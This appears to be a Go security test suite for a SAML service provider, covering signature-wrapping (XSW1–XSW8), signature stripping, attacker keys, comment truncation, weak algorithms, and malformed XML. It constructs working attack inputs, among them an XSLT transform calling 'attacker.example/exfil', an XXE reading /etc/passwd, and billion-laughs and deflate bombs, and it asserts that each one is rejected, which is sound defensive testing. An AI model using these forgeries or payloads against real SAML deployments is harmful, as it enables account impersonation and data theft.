package saml_test

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"

	"gatehouse/internal/saml"
	"gatehouse/internal/saml/samltest"
)

const (
	victim   = "ceo@a.com"     // whom the attacker wants to be
	attacker = "mallory@a.com" // whom the IdP really signed for
)

// attackerResponse is a genuine response for the attacker's own account.
func (f *fixture) attackerResponse() samltest.Response {
	r := f.response()
	r.NameID = attacker
	return r
}

func withoutSignature(el *etree.Element) *etree.Element {
	c := el.Copy()
	if sig := sigOf(c); sig != nil {
		c.RemoveChild(sig)
	}
	return c
}

// forge gives el a new ID and the victim's NameID.
func forge(el *etree.Element, id string) {
	el.SelectAttr("ID").Value = id
	for _, n := range el.FindElements(".//saml:NameID") {
		n.SetText(victim)
	}
}

// TestXSW runs the eight signature-wrapping permutations (as numbered by
// SAMLRaider and the "On Breaking SAML" paper), each with the forged element
// carrying a fresh ID and the original one.
func TestXSW(t *testing.T) {
	for _, p := range xswPermutations() {
		for _, variant := range []string{"fresh ID", "original ID"} {
			t.Run(p.name+"/"+variant, func(t *testing.T) {
				f := newFixture(t)
				f.mustReject(t, p.build(t, f, variant), saml.ErrStructure)
			})
		}
	}
}

// xswPermutation is one signature-wrapping permutation.
type xswPermutation struct {
	name    string
	signing samltest.Signing
	// wrap alters a genuinely signed doc; own is the ID the forged element
	// gets in the "original ID" variant.
	wrap func(doc *etree.Document, forgedID string)
	own  func(doc *etree.Document) string
}

// build wraps a response the IdP signed for the attacker; variant is
// "fresh ID" or "original ID".
func (p xswPermutation) build(t testing.TB, f *fixture, variant string) *etree.Document {
	doc := f.doc(t, nil, f.attackerResponse(), p.signing)
	id := "_forged"
	if variant == "original ID" {
		id = p.own(doc)
	}
	p.wrap(doc, id)
	return doc
}

func xswPermutations() []xswPermutation {
	responseSigned := samltest.Signing{Response: true}
	assertionSigned := samltest.Signing{Assertion: true}
	return []xswPermutation{
		{"XSW1 original Response inside the Signature", responseSigned, func(doc *etree.Document, id string) {
			root := doc.Root()
			original := withoutSignature(root)
			forge(root, id)
			sigOf(root).AddChild(original)
		}, responseID},
		{"XSW2 original Response before the Signature", responseSigned, func(doc *etree.Document, id string) {
			root := doc.Root()
			original := withoutSignature(root)
			forge(root, id)
			root.InsertChildAt(sigOf(root).Index(), original)
		}, responseID},
		{"XSW3 forged Assertion before the signed one", assertionSigned, func(doc *etree.Document, id string) {
			a := assertionOf(doc)
			forged := withoutSignature(a)
			forge(forged, id)
			doc.Root().InsertChildAt(a.Index(), forged)
		}, assertionID},
		{"XSW4 forged Assertion wrapping the signed one", assertionSigned, func(doc *etree.Document, id string) {
			root, a := doc.Root(), assertionOf(doc)
			forged := withoutSignature(a)
			forge(forged, id)
			at := a.Index()
			root.RemoveChild(a)
			forged.AddChild(a)
			root.InsertChildAt(at, forged)
		}, assertionID},
		{"XSW5 signed Assertion altered, unsigned original at the end", assertionSigned, func(doc *etree.Document, id string) {
			a := assertionOf(doc)
			original := withoutSignature(a)
			forge(a, id)
			doc.Root().AddChild(original)
		}, assertionID},
		{"XSW6 signed Assertion altered, original inside its Signature", assertionSigned, func(doc *etree.Document, id string) {
			a := assertionOf(doc)
			original := withoutSignature(a)
			forge(a, id)
			sigOf(a).AddChild(original)
		}, assertionID},
		{"XSW7 signed Assertion in Extensions, forged one in place", assertionSigned, func(doc *etree.Document, id string) {
			root, a := doc.Root(), assertionOf(doc)
			forged := withoutSignature(a)
			forge(forged, id)
			at := a.Index()
			root.RemoveChild(a)
			ext := etree.NewElement("samlp:Extensions")
			ext.AddChild(a)
			root.InsertChildAt(root.SelectElement("saml:Issuer").Index()+1, ext)
			root.InsertChildAt(at+1, forged)
		}, assertionID},
		{"XSW8 original Assertion in a ds:Object of the altered one", assertionSigned, func(doc *etree.Document, id string) {
			a := assertionOf(doc)
			original := withoutSignature(a)
			forge(a, id)
			sigOf(a).CreateElement("ds:Object").AddChild(original)
		}, assertionID},
	}
}

func responseID(doc *etree.Document) string  { return doc.Root().SelectAttrValue("ID", "") }
func assertionID(doc *etree.Document) string { return assertionOf(doc).SelectAttrValue("ID", "") }

func TestUnsigned(t *testing.T) { // S-unsigned
	cases := []struct {
		name    string
		signing samltest.Signing
		alter   func(t *testing.T, f *fixture, doc *etree.Document)
		want    error
	}{
		{"nothing signed", samltest.Signing{}, nil, saml.ErrSignature},
		{"assertion signature removed", samltest.Signing{Assertion: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			a := assertionOf(doc)
			a.RemoveChild(sigOf(a))
		}, saml.ErrSignature},
		{"both signatures removed", signBoth, func(t *testing.T, f *fixture, doc *etree.Document) {
			a := assertionOf(doc)
			a.RemoveChild(sigOf(a))
			doc.Root().RemoveChild(sigOf(doc.Root()))
		}, saml.ErrSignature},
		{"unsigned forged assertion in a signed envelope", samltest.Signing{Response: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			forge(assertionOf(doc), assertionID(doc))
		}, saml.ErrSignature},
		{"SignatureValue emptied", signBoth, func(t *testing.T, f *fixture, doc *etree.Document) {
			for _, v := range doc.FindElements("//ds:SignatureValue") {
				v.SetText("")
			}
		}, saml.ErrSignature},
		{"signature lifted from another response", samltest.Signing{Assertion: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			other := f.doc(t, nil, f.response(), samltest.Signing{Response: true})
			root := doc.Root()
			root.InsertChildAt(1, sigOf(other.Root()).Copy())
			forge(assertionOf(doc), assertionID(doc))
			a := assertionOf(doc)
			a.RemoveChild(sigOf(a))
		}, saml.ErrStructure},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			doc := f.doc(t, nil, f.attackerResponse(), tc.signing)
			if tc.alter != nil {
				tc.alter(t, f, doc)
			}
			verr := f.mustReject(t, doc, tc.want)
			if tc.name == "nothing signed" && !strings.Contains(verr.Message, "neither") {
				t.Errorf("message %q does not say that nothing is signed", verr.Message)
			}
		})
	}
}

// TestPlacement moves a genuine signed Assertion, or a copy of a signature,
// to where Gatehouse never looks for them.
func TestPlacement(t *testing.T) {
	cases := map[string]func(doc *etree.Document){
		"the only Assertion inside Extensions": func(doc *etree.Document) {
			root, a := doc.Root(), assertionOf(doc)
			root.RemoveChild(a)
			ext := root.CreateElement("samlp:Extensions")
			ext.AddChild(a)
		},
		"a copied Signature inside Extensions": func(doc *etree.Document) {
			doc.Root().CreateElement("samlp:Extensions").AddChild(sigOf(assertionOf(doc)).Copy())
		},
		"a copied Signature inside the Subject": func(doc *etree.Document) {
			doc.FindElement("//saml:Subject").AddChild(sigOf(assertionOf(doc)).Copy())
		},
	}
	for name, alter := range cases {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
			alter(doc)
			f.mustReject(t, doc, saml.ErrStructure)
		})
	}
}

func TestKeyInfoNeverTrusted(t *testing.T) { // S-keyinfo
	f := newFixture(t)
	evil := testIdP(t, "attacker")
	r := f.response()
	r.NameID = victim

	t.Run("attacker key and certificate", func(t *testing.T) {
		verr := f.mustReject(t, f.doc(t, evil, r, signBoth), saml.ErrSignature)
		if !strings.Contains(verr.Message, "not configured") || verr.Received == "" {
			t.Errorf("the error does not name the unknown certificate: %+v", verr)
		}
	})
	t.Run("attacker key, the IdP's certificate in KeyInfo", func(t *testing.T) {
		doc := f.doc(t, evil, r, signBoth)
		for _, c := range doc.FindElements("//ds:X509Certificate") {
			c.SetText(base64.StdEncoding.EncodeToString(f.idp.Cert.Raw))
		}
		f.mustReject(t, doc, saml.ErrSignature)
	})
	t.Run("attacker key, no KeyInfo", func(t *testing.T) {
		f.mustReject(t, f.doc(t, evil, r, samltest.Signing{Response: true, Assertion: true, OmitKeyInfo: true}), saml.ErrSignature)
	})
}

func TestRollover(t *testing.T) { // S-rollover
	for _, omit := range []bool{false, true} {
		t.Run(fmt.Sprintf("KeyInfo omitted %v", omit), func(t *testing.T) {
			f := newFixture(t)
			next := testIdP(t, "a2")
			f.cfg.Certificates = []*x509.Certificate{f.idp.Cert, next.Cert}
			s := samltest.Signing{Response: true, Assertion: true, OmitKeyInfo: omit}
			if a := f.mustAccept(t, f.doc(t, next, f.response(), s)); !a.SignedBy.Equal(next.Cert) {
				t.Error("SignedBy is not the second certificate")
			}
			if a := f.mustAccept(t, f.doc(t, nil, f.response(), s)); !a.SignedBy.Equal(f.idp.Cert) {
				t.Error("SignedBy is not the first certificate")
			}
		})
	}
}

func TestTenantIsolation(t *testing.T) { // S-tenant
	f := newFixture(t)
	b := testIdP(t, "b")
	t.Run("B's IdP asserts for A's SP", func(t *testing.T) {
		r := f.response()
		r.Issuer, r.NameID = entityB, victim
		f.mustReject(t, f.doc(t, b, r, signBoth), saml.ErrSignature)
	})
	t.Run("B's genuine response posted to A's ACS", func(t *testing.T) {
		r := samltest.Response{
			Now: testNow, Destination: "https://gatehouse.example/saml/cfg-b/acs",
			Audience: "https://gatehouse.example/saml/cfg-b/metadata", InResponseTo: requestID, NameID: victim,
		}
		f.mustReject(t, f.doc(t, b, r, signBoth), saml.ErrSignature)
	})
	t.Run("same IdP, response for another configuration", func(t *testing.T) {
		r := f.response()
		r.Destination, r.Audience = "https://gatehouse.example/saml/cfg-a2/acs", "https://gatehouse.example/saml/cfg-a2/metadata"
		f.mustReject(t, f.doc(t, nil, r, signBoth), saml.ErrDestination)
	})
}

func TestReferences(t *testing.T) { // S-refs
	cases := []struct {
		name    string
		signing samltest.Signing
		alter   func(t *testing.T, f *fixture, doc *etree.Document)
	}{
		{"two References", samltest.Signing{Response: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			sig := sigOf(doc.Root())
			info := sig.SelectElement("ds:SignedInfo")
			second := info.SelectElement("ds:Reference").Copy()
			second.SelectAttr("URI").Value = "#" + assertionID(doc)
			info.AddChild(second)
			resign(t, sig, f.idp.Key, crypto.SHA256)
		}},
		{"Reference to the Response from the Assertion's signature", samltest.Signing{Assertion: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			sig := sigOf(assertionOf(doc))
			sig.FindElement("./ds:SignedInfo/ds:Reference").SelectAttr("URI").Value = "#" + responseID(doc)
			resign(t, sig, f.idp.Key, crypto.SHA256)
		}},
		{"Reference to the whole document", samltest.Signing{Assertion: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			sig := sigOf(assertionOf(doc))
			sig.FindElement("./ds:SignedInfo/ds:Reference").SelectAttr("URI").Value = ""
			resign(t, sig, f.idp.Key, crypto.SHA256)
		}},
		{"Response and Assertion share an ID", signBoth, nil},
		{"another element repeats the Assertion ID", samltest.Signing{Assertion: true}, func(t *testing.T, f *fixture, doc *etree.Document) {
			ext := etree.NewElement("samlp:Extensions")
			ext.CreateAttr("ID", assertionID(doc))
			doc.Root().InsertChildAt(1, ext)
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			r := f.attackerResponse()
			if tc.alter == nil {
				r.ResponseID, r.AssertionID = "_same", "_same"
			}
			doc := f.doc(t, nil, r, tc.signing)
			if tc.alter != nil {
				tc.alter(t, f, doc)
			}
			f.mustReject(t, doc, saml.ErrStructure)
		})
	}
}

// TestCommentTruncation signs alice@a.com.evil.com, then splits the text the
// way the 2018 comment attacks did: the full text or a rejection, never
// alice@a.com.
func TestCommentTruncation(t *testing.T) { // S-comment
	const signedFor = "alice@a.com.evil.com"
	splits := map[string]func(el *etree.Element){
		"comment": func(el *etree.Element) {
			el.SetText("alice@a.com")
			el.CreateComment("")
			el.CreateText(".evil.com")
		},
		"CDATA": func(el *etree.Element) {
			el.SetText("alice@a.com")
			el.CreateCData(".evil.com")
		},
		"CDATA first": func(el *etree.Element) {
			el.SetText("")
			el.CreateCData("alice@a.com")
			el.CreateText(".evil.com")
		},
		"processing instruction": func(el *etree.Element) {
			el.SetText("alice@a.com")
			el.CreateProcInst("x", "y")
			el.CreateText(".evil.com")
		},
	}
	for name, split := range splits {
		for _, where := range []string{"NameID", "email attribute"} {
			t.Run(name+"/"+where, func(t *testing.T) {
				f := newFixture(t)
				r := f.response()
				r.NameID = signedFor
				if where == "email attribute" {
					f.cfg.EmailAttribute = "mail"
					r.NameIDFormat, r.NameID = saml.NameIDFormatPersistent, "opaque-1"
					r.Attributes = map[string][]string{"mail": {signedFor}}
				}
				doc := f.doc(t, nil, r, samltest.Signing{Assertion: true})
				target := nameIDOf(doc)
				if where == "email attribute" {
					target = doc.FindElement("//saml:AttributeValue")
				}
				split(target)
				a, err := f.run(t, doc)
				if err != nil {
					t.Logf("rejected: %v", err)
					return
				}
				if a.Email != signedFor || (where == "NameID" && a.NameID != signedFor) {
					t.Fatalf("read %q / %q, want the full %q", a.NameID, a.Email, signedFor)
				}
			})
		}
	}
}

func TestMultipleAssertions(t *testing.T) { // S-multi
	cases := []struct {
		name    string
		signing samltest.Signing
		alter   func(doc *etree.Document)
	}{
		{"unsigned assertion after the signed one", samltest.Signing{Assertion: true}, func(doc *etree.Document) {
			forged := withoutSignature(assertionOf(doc))
			forge(forged, "_second")
			doc.Root().AddChild(forged)
		}},
		{"unsigned assertion before the signed one", samltest.Signing{Assertion: true}, func(doc *etree.Document) {
			forged := withoutSignature(assertionOf(doc))
			forge(forged, "_second")
			doc.Root().InsertChildAt(assertionOf(doc).Index(), forged)
		}},
		{"extra EncryptedAssertion", samltest.Signing{Assertion: true}, func(doc *etree.Document) {
			doc.Root().CreateElement("saml:EncryptedAssertion").CreateElement("xenc:EncryptedData").CreateAttr("xmlns:xenc", "http://www.w3.org/2001/04/xmlenc#")
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			doc := f.doc(t, nil, f.attackerResponse(), tc.signing)
			tc.alter(doc)
			f.mustReject(t, doc, saml.ErrStructure)
		})
	}
	t.Run("IdP signed a Response with two assertions", func(t *testing.T) {
		f := newFixture(t)
		doc := f.idp.Build(f.response())
		second := assertionOf(doc).Copy()
		second.SelectAttr("ID").Value = "_second"
		doc.Root().AddChild(second)
		if err := f.idp.Sign(doc, samltest.Signing{Response: true}); err != nil {
			t.Fatal(err)
		}
		f.mustReject(t, doc, saml.ErrStructure)
	})
}

func TestTransforms(t *testing.T) { // S-transforms
	transform := func(alg string, body func(tr *etree.Element)) func(t *testing.T, f *fixture, doc *etree.Document) {
		return func(t *testing.T, f *fixture, doc *etree.Document) {
			sig := sigOf(assertionOf(doc))
			tr := sig.FindElement("./ds:SignedInfo/ds:Reference/ds:Transforms").CreateElement("ds:Transform")
			tr.CreateAttr("Algorithm", alg)
			if body != nil {
				body(tr)
			}
			resign(t, sig, f.idp.Key, crypto.SHA256)
		}
	}
	cases := map[string]func(t *testing.T, f *fixture, doc *etree.Document){
		"XSLT": transform("http://www.w3.org/TR/1999/REC-xslt-19991116", func(tr *etree.Element) {
			ss := tr.CreateElement("xsl:stylesheet")
			ss.CreateAttr("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
			ss.CreateAttr("version", "1.0")
			ss.CreateElement("xsl:template").CreateElement("xsl:value-of").CreateAttr("select", "document('http://attacker.example/exfil')")
		}),
		"XPath": transform("http://www.w3.org/TR/1999/REC-xpath-19991116", func(tr *etree.Element) {
			tr.CreateElement("ds:XPath").SetText("not(ancestor-or-self::saml:NameID)")
		}),
		"XPath Filter 2.0":      transform("http://www.w3.org/2002/06/xmldsig-filter2", nil),
		"exc-c14n WithComments": transform("http://www.w3.org/2001/10/xml-exc-c14n#WithComments", nil),
		"inclusive c14n 1.1 as CanonicalizationMethod": func(t *testing.T, f *fixture, doc *etree.Document) {
			sig := sigOf(assertionOf(doc))
			sig.FindElement("./ds:SignedInfo/ds:CanonicalizationMethod").SelectAttr("Algorithm").Value = "http://www.w3.org/2006/12/xml-c14n11"
			resign(t, sig, f.idp.Key, crypto.SHA256)
		},
	}
	for name, alter := range cases {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
			alter(t, f, doc)
			f.mustReject(t, doc, saml.ErrWeakAlgorithm)
		})
	}
}

func TestWeakAlgorithms(t *testing.T) { // S-weak
	t.Run("rsa-sha1 with sha1 digest", func(t *testing.T) {
		f := newFixture(t)
		f.mustReject(t, f.doc(t, nil, f.response(), samltest.Signing{Response: true, Assertion: true, Hash: crypto.SHA1}), saml.ErrWeakAlgorithm)
	})
	t.Run("sha1 digest under rsa-sha256", func(t *testing.T) {
		f := newFixture(t)
		doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
		a := assertionOf(doc)
		redigest(t, a, crypto.SHA1, "http://www.w3.org/2000/09/xmldsig#sha1")
		resign(t, sigOf(a), f.idp.Key, crypto.SHA256)
		f.mustReject(t, doc, saml.ErrWeakAlgorithm)
	})
	t.Run("HMAC keyed with the public certificate", func(t *testing.T) {
		f := newFixture(t)
		doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
		sig := sigOf(assertionOf(doc))
		sig.FindElement("./ds:SignedInfo/ds:SignatureMethod").SelectAttr("Algorithm").Value = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
		mac := hmac.New(sha256.New, f.idp.Cert.Raw)
		mac.Write(canonicalize(t, sig.SelectElement("ds:SignedInfo")))
		sig.SelectElement("ds:SignatureValue").SetText(base64.StdEncoding.EncodeToString(mac.Sum(nil)))
		f.mustReject(t, doc, saml.ErrWeakAlgorithm)
	})
	t.Run("RSA 1024 IdP key", func(t *testing.T) {
		f := newFixture(t)
		key, err := rsa.GenerateKey(rand.Reader, 1024)
		if err != nil {
			t.Fatal(err)
		}
		cert, err := samltest.SelfSigned(key, "weak", testNow.AddDate(-1, 0, 0), testNow.AddDate(1, 0, 0))
		if err != nil {
			t.Fatal(err)
		}
		weak := &samltest.IdP{EntityID: entityA, Key: key, Cert: cert}
		f.cfg.Certificates = []*x509.Certificate{cert}
		f.mustReject(t, f.doc(t, weak, f.response(), signBoth), saml.ErrWeakAlgorithm)
	})
}

func TestDTD(t *testing.T) { // X-dtd
	f := newFixture(t)
	signed := string(mustXML(t, f.doc(t, nil, f.response(), signBoth)))
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
		`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`
	for i := 2; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs += `]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&lol9;</samlp:Response>`
	cases := map[string]string{
		"XXE":                                    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&x;</samlp:Response>`,
		"billion laughs":                         laughs,
		"DOCTYPE before a valid signed response": strings.Replace(signed, "?>", "?><!DOCTYPE samlp:Response>", 1),
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			a, err := f.runB64(base64.StdEncoding.EncodeToString([]byte(doc)))
			verr := rejectAs(t, a, err, saml.ErrMalformed)
			if !strings.Contains(verr.Message, "DOCTYPE") {
				t.Errorf("message %q does not name the DOCTYPE", verr.Message)
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("took %s to reject", d)
			}
		})
	}
}

// TestRoundTrip puts the inputs behind the encoding/xml round-trip bypasses
// into the unsigned Response around a genuinely signed Assertion, where no
// signature would catch them.
func TestRoundTrip(t *testing.T) { // X-roundtrip
	cases := map[string]struct{ old, new string }{
		"<x::Root/> style element": {"<samlp:Status>", "<x::Extensions/><samlp:Status>"},
		"::attr":                   {"<samlp:Response ", `<samlp:Response ::attr="foo" `},
		"empty attribute name":     {"<samlp:Response ", `<samlp:Response :="value" `},
		"empty local name":         {"<samlp:Response ", `<samlp:Response samlp:="x" `},
		"empty xmlns prefix":       {"<samlp:Response ", `<samlp:Response xmlns:="urn:x" `},
		"xmlns:xmlns":              {"<samlp:Response ", `<samlp:Response xmlns:xmlns="urn:x" `},
		"repeated attribute":       {"<samlp:Response ", `<samlp:Response Version="2.0" `},
		// Only the round-trip validator sees that y:a and samlp:a are the same
		// attribute: encoding/xml and etree disagree on this element.
		"one namespace, two prefixes": {"<samlp:Status>", `<samlp:Extensions><y:E xmlns:y="` + samltest.NSProtocol + `" y:a="1" samlp:a="2"/></samlp:Extensions><samlp:Status>`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			raw := mustXML(t, f.doc(t, nil, f.response(), samltest.Signing{Assertion: true}))
			if !bytes.Contains(raw, []byte(tc.old)) {
				t.Fatalf("%q not in the response", tc.old)
			}
			raw = bytes.Replace(raw, []byte(tc.old), []byte(tc.new), 1)
			a, err := f.runB64(base64.StdEncoding.EncodeToString(raw))
			rejectAs(t, a, err, saml.ErrMalformed)
		})
	}
}

func TestSizeBounds(t *testing.T) { // X-size
	f := newFixture(t)
	t.Run("base64 over the limit", func(t *testing.T) {
		a, err := f.runB64(strings.Repeat("PHg+", 1<<19)) // 2 MiB
		rejectAs(t, a, err, saml.ErrTooLarge)
	})
	t.Run("XML over 1 MiB", func(t *testing.T) {
		doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
		doc.Root().CreateComment(strings.Repeat("x", 1<<20))
		a, err := f.run(t, doc)
		rejectAs(t, a, err, saml.ErrTooLarge)
	})
	t.Run("nesting deeper than 100", func(t *testing.T) {
		doc := f.doc(t, nil, f.response(), samltest.Signing{Assertion: true})
		el := doc.Root().CreateElement("samlp:Extensions")
		for range 100 {
			el = el.CreateElement("x")
		}
		a, err := f.run(t, doc)
		verr := rejectAs(t, a, err, saml.ErrMalformed)
		if !strings.Contains(verr.Message, "deeper") {
			t.Errorf("message %q does not name the depth", verr.Message)
		}
	})
	t.Run("deflate bomb", func(t *testing.T) {
		var buf bytes.Buffer
		w, _ := flate.NewWriter(&buf, flate.BestCompression)
		chunk := make([]byte, 1<<20)
		copy(chunk, `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">`)
		w.Write(chunk)
		for range 255 {
			w.Write(make([]byte, 1<<20))
		}
		w.Close()
		bomb := base64.StdEncoding.EncodeToString(buf.Bytes())
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		a, err := f.runB64(bomb)
		runtime.ReadMemStats(&after)
		rejectAs(t, a, err, saml.ErrMalformed)
		if grew := after.TotalAlloc - before.TotalAlloc; grew > 16<<20 {
			t.Errorf("rejecting a %d byte bomb allocated %d MiB", len(bomb), grew>>20)
		}
	})
}

func mustXML(t testing.TB, doc *etree.Document) []byte {
	t.Helper()
	raw, err := doc.WriteToBytes()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}
